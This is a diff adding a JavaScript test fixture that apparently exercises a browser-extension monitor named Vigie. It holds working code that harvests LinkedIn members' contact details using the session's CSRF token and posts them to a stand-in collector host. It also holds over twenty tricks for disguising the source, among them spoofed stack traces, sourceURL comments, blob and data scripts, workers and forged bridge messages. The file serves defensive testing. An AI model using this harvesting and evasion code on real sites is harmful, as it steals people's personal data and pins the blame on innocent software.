@@ -1,0 +1,201 @@
+// A third-party script on a page of the site (www/pages/framing.html) that
+// harvests members' contact details and sends them away, each time in a way
+// meant to get the blame put on an innocent extension or on the site
+// itself. The attack is named by the page's `attack` parameter, the
+// innocent extension's id by `innocent`; window.__attack settles when the
+// attempt is over. tests/e2e/framing.test.mjs runs every attack.
+'use strict';
+
+(() => {
+  const params = new URLSearchParams(location.search);
+  const attack = params.get('attack');
+  const innocent = params.get('innocent') ?? 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';
+  const innocentUrl = `chrome-extension://${innocent}`;
+  const MEMBERS = ['bruno-keller', 'chloe-nguyen', 'david-okafor', 'elena-rossi'];
+  const csrf = (document.cookie.match(/(?:^|;\s*)JSESSIONID="?([^";]*)"?/) ?? [])[1] ?? '';
+
+  // The harvest as source text, for the attacks that run code from a
+  // string (eval, handlers, workers, blob: and data: scripts, frames).
+  const HARVEST = `(async () => {
+    const members = ${JSON.stringify(MEMBERS)};
+    const found = [];
+    for (const id of members) {
+      const res = await fetch('https://www.linkedin.com/voyager/api/identity/profiles/' + id + '/profileContactInfo', {
+        credentials: 'include',
+        headers: { 'csrf-token': ${JSON.stringify(csrf)}, accept: 'application/vnd.linkedin.normalized+json+2.1' },
+      });
+      if (res.ok) found.push(await res.json());
+    }
+    await fetch('https://api.collector.test/v1/contacts', { method: 'POST', body: JSON.stringify(found) });
+    return found.length;
+  })()`;
+
+  async function harvest(fetchFn = fetch) {
+    const found = [];
+    for (const id of MEMBERS) {
+      const res = await fetchFn(`https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`, {
+        credentials: 'include',
+        headers: { 'csrf-token': csrf, accept: 'application/vnd.linkedin.normalized+json+2.1' },
+      });
+      if (res.ok) found.push(await res.json());
+    }
+    await fetchFn('https://api.collector.test/v1/contacts', { method: 'POST', body: JSON.stringify(found) });
+    return found.length;
+  }
+
+  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+  const ready = () => new Promise((resolve) => (document.body ? resolve() : addEventListener('DOMContentLoaded', resolve, { once: true })));
+  /** Waits for the string-run harvest to have reached the collector. */
+  const settled = () => sleep(2500);
+  const panel = (html) => {
+    const div = document.createElement('div');
+    div.className = 'contact-finder-panel';
+    div.innerHTML = html;
+    document.body.append(div);
+  };
+
+  const ATTACKS = {
+    // The control: the third party harvests in plain sight.
+    plain: () => harvest(),
+    // Another extension's address in the page, as if it had injected a panel.
+    'image of another extension': async () => {
+      await ready();
+      panel(`<img src="${innocentUrl}/icons/panel.png"><p>Email: bruno@example.org</p>`);
+      await harvest();
+    },
+    'frame of another extension': async () => {
+      await ready();
+      panel(`<iframe src="${innocentUrl}/panel.html"></iframe>`);
+      await harvest();
+    },
+    'stylesheet and script of another extension': async () => {
+      await ready();
+      panel(`<link rel="stylesheet" href="${innocentUrl}/panel.css"><script src="${innocentUrl}/content.js"></script>`);
+      await harvest();
+    },
+    'background image and id of another extension': async () => {
+      await ready();
+      panel(`<div id="${innocent}-panel" style="background-image:url(${innocentUrl}/bg.png)">Contact finder</div>`);
+      await harvest();
+    },
+    // Stacks made unreadable or false.
+    'locked prepareStackTrace': () => {
+      Object.defineProperty(Error, 'prepareStackTrace', {
+        value: () => `    at x (${location.origin}/static/bundle.js:1:1)`, writable: false, configurable: false,
+      });
+      return harvest();
+    },
+    'stack trace limit 0': () => {
+      Object.defineProperty(Error, 'stackTraceLimit', { value: 0, writable: false, configurable: false });
+      return harvest();
+    },
+    'prepareStackTrace naming the innocent extension': () => {
+      Error.prepareStackTrace = () => `Error\n    at x (${innocentUrl}/content.js:1:1)`;
+      return harvest();
+    },
+    'function named like an extension frame': () => {
+      const named = { [`x (${innocentUrl}/content.js:1:1)`]: () => harvest() };
+      return named[`x (${innocentUrl}/content.js:1:1)`]();
+    },
+    'eval with the innocent extension as sourceURL': () => (0, eval)(`${HARVEST}\n//# sourceURL=${innocentUrl}/content.js`),
+    'new Function with the site as sourceURL': () => new Function(`return ${HARVEST}\n//# sourceURL=${location.origin}/static/bundle.js`)(),
+    'setTimeout with a string': async () => {
+      setTimeout(`${HARVEST}`, 0);
+      await settled();
+    },
+    // Code that runs under the document's own URL.
+    'inline event handler': async () => {
+      await ready();
+      const img = document.createElement('img');
+      img.setAttribute('onerror', HARVEST);
+      img.src = '/__pages/missing.png';
+      document.body.append(img);
+      await settled();
+    },
+    'inline script element': async () => {
+      await ready();
+      const script = document.createElement('script');
+      script.textContent = HARVEST;
+      document.body.append(script);
+      await settled();
+    },
+    'javascript: URL frame': async () => {
+      await ready();
+      const frame = document.createElement('iframe');
+      frame.src = `javascript:parent.eval(${JSON.stringify(HARVEST)})`;
+      document.body.append(frame);
+      await settled();
+    },
+    // Elsewhere than the page's top frame.
+    'blob: script': async () => {
+      await ready();
+      const script = document.createElement('script');
+      script.src = URL.createObjectURL(new Blob([HARVEST], { type: 'text/javascript' }));
+      document.body.append(script);
+      await settled();
+    },
+    'data: script': async () => {
+      await ready();
+      const script = document.createElement('script');
+      script.src = `data:text/javascript,${encodeURIComponent(HARVEST)}`;
+      document.body.append(script);
+      await settled();
+    },
+    'dedicated worker from blob:': async () => {
+      const worker = new Worker(URL.createObjectURL(new Blob([HARVEST], { type: 'text/javascript' })));
+      await settled();
+      worker.terminate();
+    },
+    'same-origin about:blank frame': async () => {
+      await ready();
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      await harvest(frame.contentWindow.fetch.bind(frame.contentWindow));
+    },
+    'srcdoc frame with an inline script': async () => {
+      await ready();
+      const frame = document.createElement('iframe');
+      frame.srcdoc = `<script>${HARVEST}<\/script>`;
+      document.body.append(frame);
+      await settled();
+    },
+    // Calls that pass through the innocent extension's wrapper of fetch.
+    'through the innocent wrapper': () => harvest(),
+    'innocent wrapper called by a timer': async () => {
+      for (const id of MEMBERS) {
+        setTimeout(window.fetch, 0, `https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`);
+      }
+      await sleep(500);
+      setTimeout(window.fetch, 0, `https://api.collector.test/v1/contacts?emails=${encodeURIComponent('bruno.keller@example.org')}`);
+      await sleep(1000);
+    },
+    'innocent wrapper called by a promise': async () => {
+      const urls = MEMBERS.map((id) => `https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`);
+      await Promise.all(urls.map((url) => Promise.resolve(url).then(window.fetch)));
+      await Promise.resolve('https://api.collector.test/v1/contacts?from=promise').then(window.fetch);
+    },
+    // Messages that imitate Vigie's own.
+    'forged bridge messages': async () => {
+      const channel = new MessageChannel();
+      window.postMessage({ __vigie: 'hello', nonce: '0123456789abcdef0123456789abcdef' }, '*', [channel.port2]);
+      const forged = (url) => ({ kind: 'call', api: 'fetch', url, method: 'GET', stack: [`${innocentUrl}/content.js`] });
+      for (const id of MEMBERS) {
+        const url = `https://www.linkedin.com/voyager/api/identity/profiles/${id}/profileContactInfo`;
+        window.postMessage(forged(url), '*');
+        channel.port1.postMessage(forged(url));
+      }
+      window.postMessage({ type: 'vigie:main-world', report: forged('https://api.collector.test/v1/contacts') }, '*');
+      await harvest();
+    },
+    'replaced fetch under the innocent extension’s name': () => {
+      const previous = window.fetch;
+      window.fetch = (0, eval)(`(function fetch(input, init) { return previous(input, init); })\n//# sourceURL=${innocentUrl}/hook.js`.replace('previous', 'window.__previousFetch'));
+      window.__previousFetch = previous;
+      return harvest();
+    },
+  };
+
+  window.__attacks = Object.keys(ATTACKS);
+  const run = ATTACKS[attack];
+  window.__attack = run ? Promise.resolve().then(run).then(() => 'done', (error) => `failed: ${error}`) : Promise.resolve('no attack');
+})();
